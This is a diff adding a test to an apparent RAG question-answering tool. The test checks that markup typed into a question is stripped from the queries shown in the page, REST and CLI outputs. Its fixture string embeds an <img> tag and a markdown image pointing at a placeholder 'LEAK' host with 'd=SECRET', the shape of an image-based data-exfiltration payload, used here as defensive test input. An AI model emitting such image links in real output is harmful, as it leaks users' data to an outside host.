@@ -375,3 +375,28 @@ def test_search_results_show_the_clean_text_an_answer_shows(planted):
         shown = run_cli(Path(env["RAGBUS_HOME"]), "search", QUESTION, *args, timeout=300, **extra)
         assert "512 KB" in shown.stdout, shown.stdout + shown.stderr[-2000:]
         assert_plain(shown.stdout, f"ragbus search {' '.join(args)}")
+
+
+MARKED_QUESTION = f'What is the <b>blimp</b> buffer size? <img src="http://{LEAK}/q"> ![i](http://{LEAK}/i?d=SECRET)'
+
+
+def test_a_question_with_markup_is_searched_and_shown_without_it(planted):
+    """The query the page, REST and the CLI show beside the answer (every iteration's query and sub-queries, the
+    events' details) is the question made plain as an answer is, not the ``<b>``, ``<img>`` and image it was
+    typed with (a newcomer's report: the rewrite kept them); what was typed stays as typed (``original_query``)."""
+    provider, url, env = planted
+    record = httpx.post(f"{url}/v1/queries", json={"question": MARKED_QUESTION, "max_iterations": 2, "wait_s": 90},
+                        timeout=120).json()
+    assert record["status"] == "answered" and record["original_query"] == MARKED_QUESTION, record
+    if provider == "local":  # the offline rewrite starts from the question as typed
+        assert record["iterations"][0]["query"].startswith("What is the blimp buffer size?"), record["iterations"][0]
+    for item in record["iterations"]:
+        for query in [item["query"], *(item.get("sub_queries") or [])]:
+            assert_plain(query, f"iteration {item['iteration']}'s query")
+    assert_plain(record["current_query"], "current_query")
+    for event in record["events"]:
+        assert_plain(event.get("detail") or "-", f"the {event['stage']} event")
+    extra = {k: v for k, v in env.items() if k != "RAGBUS_HOME"}
+    shown = run_cli(Path(env["RAGBUS_HOME"]), "ask", MARKED_QUESTION, timeout=300, **extra)
+    assert "iteration 1:" in shown.stdout, shown.stdout + shown.stderr[-2000:]
+    assert_plain(shown.stdout, "ragbus ask")
